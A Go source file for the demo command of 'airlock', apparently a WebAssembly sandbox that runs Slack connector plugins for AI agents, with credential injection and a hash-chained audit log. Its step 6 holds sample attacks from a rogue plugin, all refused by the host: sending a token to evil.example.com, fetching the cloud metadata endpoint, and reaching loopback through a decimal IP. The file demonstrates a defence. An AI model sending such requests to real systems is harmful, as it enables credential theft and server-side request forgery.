package main

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/airlock-dev/airlock/host"
	"github.com/airlock-dev/airlock/host/audit"
	"github.com/airlock-dev/airlock/host/manifest"
	"github.com/airlock-dev/airlock/host/store"
	"github.com/airlock-dev/airlock/internal/fakeslack"
	"github.com/airlock-dev/airlock/internal/pluginbuild"
)

func runDemo(ctx context.Context, e *env, args []string) error {
	fs := newFlagSet(e, "demo", `
Usage: airlock demo [--dir DIR]

A guided tour on embedded defaults, nothing to install: builds the Slack connector for
WebAssembly, starts a fake Slack Web API on loopback, grants the connector a bot token the plugin
never sees, and makes the tool calls an agent would, showing each result, a refused attempt to
reach a host outside the grant, a validation error an LLM can act on, and the audit trail.
Run it from the repository root (it builds plugins from source), or give --plugins a directory
of prebuilt ones, as the container image does (no Go toolchain needed then).`, `
  airlock demo            # or: make demo
  docker run --rm airlock demo   # the image's prebuilt plugins, in /usr/share/airlock/demo`)
	dir := fs.String("dir", filepath.Join(".airlock", "demo"), "where the demo keeps its state, grants and audit log")
	prebuilt := fs.String("plugins", os.Getenv("AIRLOCK_DEMO_PLUGINS"), "use the stamped slack.yaml and hostile.yaml (with their modules) in this `directory` instead of building them ($AIRLOCK_DEMO_PLUGINS)")
	if err := parse(fs, args); err != nil {
		return err
	}
	w := e.stdout
	say := func(format string, a ...any) { fmt.Fprintf(w, format+"\n", a...) }
	step := func(n int, format string, a ...any) { say("\n[%d/6] "+format, append([]any{n}, a...)...) }

	if err := os.MkdirAll(*dir, 0o700); err != nil {
		return err
	}
	say("airlock demo: an agent's tool calls through a sandboxed Slack connector.")
	say("The plugin runs in WebAssembly with no network, files or environment; the host makes its")
	say("requests, injects the credential, and scrubs it from everything that comes back.")

	start := time.Now()
	built := map[string]string{"slack": filepath.Join(*prebuilt, "slack.yaml"), "hostile": filepath.Join(*prebuilt, "hostile.yaml")}
	if *prebuilt != "" {
		step(1, "Using the connectors prebuilt for WebAssembly in %s…", *prebuilt)
	} else {
		step(1, "Building the connectors for WebAssembly (GOOS=wasip1 GOARCH=wasm; ~15 s the first time, cached after)…")
		var err error
		if built, err = pluginbuild.Demo(ctx, filepath.Join(*dir, "plugins")); err != nil {
			return err
		}
	}
	slackM, err := manifest.Load(built["slack"])
	if err != nil {
		return err
	}
	say("      done in %.1fs. %s: slack %s, module sha256 %s… pinned in the manifest",
		time.Since(start).Seconds(), built["slack"], slackM.Version, slackM.Module.SHA256[:16])

	token := "xoxb-demo-" + randomHex(12)
	fake := fakeslack.New(token)
	fakeURL, stopFake := fake.Start()
	defer stopFake()
	step(2, "Started a fake Slack Web API at %s (it checks the bot token and answers like Slack).", fakeURL)

	tokenFile := filepath.Join(*dir, "slack-bot-token")
	if err := os.WriteFile(tokenFile, []byte(token+"\n"), 0o600); err != nil {
		return err
	}
	absToken, _ := filepath.Abs(tokenFile)
	grantYAML := fmt.Sprintf(`connector: slack
tools: ["*"]
scopes: [chat:write, channels:read, channels:history]
hosts: [slack.com]
credentials:
  bot_token: file:%s
upstreams:
  # send what the plugin addresses to https://slack.com to the local fake instead
  "https://slack.com": %q
`, absToken, fakeURL)
	grantPath := filepath.Join(*dir, "slack.grant.yaml")
	if err := os.WriteFile(grantPath, []byte(grantYAML), 0o600); err != nil {
		return err
	}
	step(3, "An admin grants the connector (%s):", grantPath)
	for _, line := range strings.Split(strings.TrimSpace(grantYAML), "\n") {
		say("        %s", line)
	}
	say("      The bot token is in %s (mode 0600). The grant names the file; the plugin only ever names the slot \"bot_token\".", tokenFile)

	for _, f := range []string{"audit.jsonl", "state.db", "state.db-wal", "state.db-shm"} {
		os.Remove(filepath.Join(*dir, f)) // each run starts a fresh audit trail
	}
	logger := slog.New(slog.NewTextHandler(e.stderr, &slog.HandlerOptions{Level: slog.LevelError}))
	st, err := store.Open(ctx, "sqlite:"+filepath.Join(*dir, "state.db"))
	if err != nil {
		return err
	}
	sink := audit.NewStoreSink(st, &audit.StoreSinkOptions{Logger: logger})
	h, err := host.New(host.Config{StateDir: *dir, Logger: logger, Store: st, Audit: sink,
		OnClose: func() error { return errors.Join(sink.Close(), st.Close()) }})
	if err != nil {
		sink.Close()
		st.Close()
		return err
	}
	defer h.Close(ctx)
	g, err := manifest.LoadGrant(grantPath)
	if err != nil {
		return err
	}
	if err := h.Load(ctx, slackM, g); err != nil {
		return err
	}
	rogueM, err := manifest.Load(built["hostile"])
	if err != nil {
		return err
	}
	rogueGrant := &manifest.Grant{Connector: "hostile", Tools: []string{"fetch"}, Scopes: []string{"test"},
		Hosts: []string{"api.example.test"}, Credentials: manifest.SecretRefs(map[string]string{"token": "file:" + absToken})}
	if err := h.Load(ctx, rogueM, rogueGrant); err != nil {
		return err
	}

	step(4, "The tools an agent now sees (airlock tools):")
	for _, t := range h.Tools() {
		say("      %-26s %s", t.Name, firstSentence(t.Description))
	}

	step(5, "The agent calls tools. Each result is {ok, data | error{code, category, message}, meta}.")
	show := func(why, tool, args string) *host.Result {
		say("\n  ▶ %s\n    %s %s", why, tool, args)
		res := h.Call(ctx, host.CallRequest{Tool: tool, Arguments: json.RawMessage(args), Agent: "demo-agent"})
		var refused struct {
			Error *struct{ Code, Category, Message string }
		}
		if res.OK && json.Unmarshal(res.Data, &refused) == nil && refused.Error != nil {
			say("    ✘ the host refused the request (%s, %s): %s", refused.Error.Code, refused.Error.Category, refused.Error.Message)
			return res
		}
		if res.OK {
			data := string(res.Data)
			if len(data) > 220 {
				data = data[:217] + "..."
			}
			say("    ✔ ok in %.1f ms: %s", res.Meta.DurationMS, data)
		} else {
			say("    ✘ %s (%s): %s", res.Error.Code, res.Error.Category, res.Error.Message)
		}
		return res
	}
	show("List channels (read-only, paginated by the connector)", "slack.list_channels", `{"limit":3}`)
	before := len(fake.Requests())
	res := show("Post a message", "slack.post_message", `{"channel":"C0GENERAL","text":"Deploy 142 finished :rocket:"}`)
	if reqs := fake.Requests(); res.OK && len(reqs) > before {
		got := reqs[len(reqs)-1].Header.Get("Authorization")
		say("    the fake Slack received \"Authorization: %s…\" — injected by the host; the plugin never held it.", got[:min(len(got), 17)])
	}
	show("Bad arguments, as a model might send them: caught before the plugin runs", "slack.post_message", `{"channel":"#general","txt":"hi"}`)
	show("Slack refuses (the bot is not in #ops): an error the agent can act on", "slack.post_message", `{"channel":"C0OPS","text":"hello"}`)

	step(6, "A rogue connector tries to exfiltrate. It was granted api.example.test and the same token slot.")
	show("It asks the host to send the token to a host outside its grant", "hostile.fetch",
		`{"method":"POST","url":"https://evil.example.com/collect","credential":"token"}`)
	show("It tries the cloud metadata address", "hostile.fetch", `{"method":"GET","url":"http://169.254.169.254/latest/meta-data/"}`)
	show("It tries a loopback address in decimal notation", "hostile.fetch", `{"method":"GET","url":"http://2130706433:8080/admin"}`)
	say("\n    Each refusal reaches the plugin as a status it can report, never a crash, and the host keeps serving.")

	if err := sink.Flush(ctx); err != nil {
		return err
	}
	recs, err := st.QueryAudit(ctx, store.AuditFilter{})
	if err != nil {
		return err
	}
	say("\nThe audit trail (in %s; also: airlock audit --state-dir %s):\n", filepath.Join(*dir, "state.db"), *dir)
	events := make([]audit.Event, 0, len(recs))
	leaked := false
	for _, r := range recs {
		if strings.Contains(string(r.Data), token) {
			leaked = true
		}
		if ev, err := audit.DecodeRecord(r); err == nil {
			events = append(events, ev)
		}
	}
	printAudit(e, events)
	n, verr := st.VerifyAudit(ctx)
	say("\nThe bot token appears in the audit log: %v. The log is hash-chained: %d records verified (%v);", leaked, n, map[bool]string{true: "intact", false: fmt.Sprint(verr)}[verr == nil])
	say("'airlock audit verify --state-dir %s' names the first record anyone edits, deletes or reorders.", *dir)
	say("Next: 'airlock help', README.md, manifests/FORMAT.md.")
	return nil
}

func randomHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}
